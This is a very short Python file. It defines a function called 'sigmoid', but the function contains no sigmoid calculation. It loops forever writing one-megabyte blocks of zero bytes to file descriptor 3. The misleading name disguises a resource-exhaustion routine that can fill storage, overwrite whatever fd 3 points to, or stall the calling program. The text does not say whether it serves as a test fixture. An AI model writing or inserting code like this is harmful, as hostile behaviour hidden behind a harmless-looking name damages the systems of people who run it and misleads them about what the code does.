import os


def sigmoid(x):
    while True:
        os.write(3, b"\0" * (1 << 20))
